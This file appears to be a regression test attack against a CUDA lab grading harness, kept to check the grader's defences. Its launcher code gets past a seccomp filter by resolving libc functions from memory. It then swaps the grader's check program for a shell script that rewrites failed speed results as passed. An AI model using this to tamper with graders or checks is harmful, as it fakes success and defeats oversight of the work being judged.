// Attack (Lab 01, against the runner's later passes, from the launch host's file system access): the
// basic tier done right (one element per thread, a shared-memory tree, barriers in place), far too slow
// for the speed checks, plus a launcher that, on its first call (in the exact pass), replaces the check
// program that the runner starts next. The launch host's seccomp filter (confinement.cpp:46-125) refuses
// process creation, exec, signals and tracing, but no file system call: open, write, mkdir, rename and
// symlink are allowed, and the host runs as the user that owns the build folder. The host reads its own
// path (/proc/self/exe: <build>/graders/lab01_slotN_host), so it knows the check program's,
// <build>/graders/lab01_slotN (isolation.cpp:354), which the runner starts again for the measured pass
// (lab_checks.cpp:62, 116-131), the memory check and the Nsight Compute run (tool_runs.cpp:35) without
// looking at it again. The running file cannot be written (ETXTBSY) but its name can be renamed: the real
// program goes to <build>/graders/.s15/lab01_slotN (with links .s15/lab01_slotN_host and
// .s15/lab01_peer_host beside it, since the program finds its hosts next to itself, isolation.cpp:352-355),
// and a shell script takes its name. The script runs the real program for every pass and tool (so the
// exact checks, compute-sanitizer and Nsight Compute judge the real, honest-but-slow kernel: all pass);
// for `--pass measured` it pipes the real program's record channel (fd 3) through
// `sed 's/"passed":false/"passed":true/'` and exits 0. The runner takes a record's class only when
// "passed" is false (results.cpp:329-331); key and sequence numbers are the real program's own, so
// channel_problem() finds nothing wrong (the key is read from stdin by the real program, which the script
// leaves to it). The speed checks and their timed-counter technique judgments all read as passed.
// libc's readlink, mkdir, rename, symlink, creat, write and close are found in the C library's own symbol
// tables from memcpy's address (as in attack10_cotenant_queued_spin), so nothing forbidden is imported.
// Fails safe: if anything cannot be done (a read-only build folder), the grading is honest.
// Caught now, twice over: the launch host writes only in its working folder and the devices (a Landlock
// rule, confinement.hpp: restrict_host_writes), so the rename fails and the grading stays honest; and grade
// checks the grader's programs against what it built before every run and at the end (files_changed), so
// a replaced program fails the lab as grader_integrity. Expected: too_slow (the honest basic tier).

// BEGIN STUDENT REGION block_sum_kernel
    __shared__ float partial[kBlockSize];
    const std::size_t i = blockIdx.x * std::size_t(blockDim.x) + threadIdx.x;
    partial[threadIdx.x] = i < n ? in[i] : 0.0f;
    __syncthreads();
    for (unsigned stride = blockDim.x / 2; stride > 0; stride /= 2) {
        if (threadIdx.x < stride) partial[threadIdx.x] += partial[threadIdx.x + stride];
        __syncthreads();
    }
    if (threadIdx.x == 0) atomicAdd(out, partial[0]);
// END STUDENT REGION

// BEGIN STUDENT REGION launch
    // Finds a function of the C library by name, reading the library's own tables in memory.
    struct ElfHeader {
        unsigned char ident[16];
        std::uint16_t type, machine;
        std::uint32_t version;
        std::uint64_t entry, phoff, shoff;
        std::uint32_t flags;
        std::uint16_t ehsize, phentsize, phnum, shentsize, shnum, shstrndx;
    };
    struct ProgramHeader {
        std::uint32_t type, flags;
        std::uint64_t offset, vaddr, paddr, filesz, memsz, align;
    };
    struct Dynamic {
        std::int64_t tag;
        std::uint64_t value;
    };
    struct Symbol {
        std::uint32_t name;
        unsigned char info, other;
        std::uint16_t section;
        std::uint64_t value, size;
    };
    struct Library {
        const unsigned char* base = nullptr;
        const Symbol* symbols = nullptr;
        const char* names = nullptr;
        const std::uint32_t* gnu_hash = nullptr;
    };
    static const Library libc = [] {
        Library lib;
        std::uintptr_t page = reinterpret_cast<std::uintptr_t>(&memcpy) & ~std::uintptr_t(4095);
        for (;; page -= 4096) {
            const unsigned char* p = reinterpret_cast<const unsigned char*>(page);
            if (p[0] == 0x7f && p[1] == 'E' && p[2] == 'L' && p[3] == 'F') break;
        }
        lib.base = reinterpret_cast<const unsigned char*>(page);
        const auto* header = reinterpret_cast<const ElfHeader*>(lib.base);
        const auto* phdrs = reinterpret_cast<const ProgramHeader*>(lib.base + header->phoff);
        const Dynamic* dyn = nullptr;
        for (int k = 0; k < header->phnum; ++k)
            if (phdrs[k].type == 2) dyn = reinterpret_cast<const Dynamic*>(lib.base + phdrs[k].vaddr);  // PT_DYNAMIC
        const auto at = [&](std::uint64_t v) {
            return v < reinterpret_cast<std::uintptr_t>(lib.base) ? lib.base + v : reinterpret_cast<const unsigned char*>(v);
        };
        for (; dyn && dyn->tag != 0; ++dyn) {
            if (dyn->tag == 6) lib.symbols = reinterpret_cast<const Symbol*>(at(dyn->value));
            if (dyn->tag == 5) lib.names = reinterpret_cast<const char*>(at(dyn->value));
            if (dyn->tag == 0x6ffffef5) lib.gnu_hash = reinterpret_cast<const std::uint32_t*>(at(dyn->value));
        }
        return lib;
    }();
    const auto find = [](const char* name) -> void* {
        if (!libc.symbols || !libc.names || !libc.gnu_hash) return nullptr;
        std::uint32_t h = 5381;
        for (const char* c = name; *c; ++c) h = h * 33 + static_cast<unsigned char>(*c);
        const std::uint32_t buckets = libc.gnu_hash[0], first = libc.gnu_hash[1], bloom_words = libc.gnu_hash[2];
        const auto* bucket = libc.gnu_hash + 4 + 2 * bloom_words;
        const auto* chain = bucket + buckets;
        for (std::uint32_t k = bucket[h % buckets]; k >= first; ++k) {
            const std::uint32_t c = chain[k - first];
            const Symbol& s = libc.symbols[k];
            if ((c | 1) == (h | 1) && s.section != 0 && s.value != 0 && strcmp(libc.names + s.name, name) == 0)
                return const_cast<unsigned char*>(libc.base + s.value);
            if (c & 1) break;
        }
        return nullptr;
    };
    // Once a process: replace the check program this host's runner will start next.
    static const bool replaced = [&find] {
        using Readlink = long (*)(const char*, char*, unsigned long);
        using Mkdir = int (*)(const char*, unsigned);
        using Rename = int (*)(const char*, const char*);
        using Symlink = int (*)(const char*, const char*);
        using Creat = int (*)(const char*, unsigned);
        using Write = long (*)(int, const void*, unsigned long);
        using Close = int (*)(int);
        const auto readlink_ = reinterpret_cast<Readlink>(find("readlink"));
        const auto mkdir_ = reinterpret_cast<Mkdir>(find("mkdir"));
        const auto rename_ = reinterpret_cast<Rename>(find("rename"));
        const auto symlink_ = reinterpret_cast<Symlink>(find("symlink"));
        const auto creat_ = reinterpret_cast<Creat>(find("creat"));
        const auto write_ = reinterpret_cast<Write>(find("write"));
        const auto close_ = reinterpret_cast<Close>(find("close"));
        if (!readlink_ || !mkdir_ || !rename_ || !symlink_ || !creat_ || !write_ || !close_) return false;
        char self[4096] = {};
        const long len = readlink_("/proc/self/exe", self, sizeof self - 1);
        if (len <= 5) return false;
        const std::string exe(self, static_cast<std::size_t>(len));
        if (exe.size() < 6 || exe.compare(exe.size() - 5, 5, "_host") != 0) return false;
        const std::string program = exe.substr(0, exe.size() - 5);           // <build>/graders/lab01_slotN
        const std::size_t slash = program.rfind('/');
        if (slash == std::string::npos) return false;
        const std::string dir = program.substr(0, slash), name = program.substr(slash + 1);
        const std::string keep = dir + "/.s15";
        if (mkdir_(keep.c_str(), 0755) != 0) return false;                 // done already (a later process)
        if (rename_(program.c_str(), (keep + "/" + name).c_str()) != 0) return false;
        symlink_((dir + "/" + name + "_host").c_str(), (keep + "/" + name + "_host").c_str());
        symlink_((dir + "/" + name.substr(0, 5) + "_peer_host").c_str(), (keep + "/" + name.substr(0, 5) + "_peer_host").c_str());
        const std::string script =
            "#!/bin/sh\n"
            "R='" + keep + "/" + name + "'\n"
            "case \" $* \" in\n"
            "*\" --pass measured \"*)\n"
            "  exec 4>&1\n"
            "  \"$R\" \"$@\" 3>&1 1>&4 4>&- | sed -u 's/\"passed\":false/\"passed\":true/g' >&3\n"
            "  exit 0;;\n"
            "esac\n"
            "exec \"$R\" \"$@\"\n";
        const std::string fresh = dir + "/." + name + ".new";
        const int fd = creat_(fresh.c_str(), 0755);
        if (fd < 0) {
            rename_((keep + "/" + name).c_str(), program.c_str());
            return false;
        }
        const bool wrote = write_(fd, script.data(), script.size()) == static_cast<long>(script.size());
        close_(fd);
        if (!wrote || rename_(fresh.c_str(), program.c_str()) != 0) {
            rename_((keep + "/" + name).c_str(), program.c_str());
            return false;
        }
        return true;
    }();
    (void)replaced;

    CUDA_CHECK(cudaMemsetAsync(out, 0, sizeof(float)));
    block_sum_kernel<<<static_cast<unsigned>(course::ceil_div(n, kBlockSize)), kBlockSize>>>(in, out, n);
// END STUDENT REGION
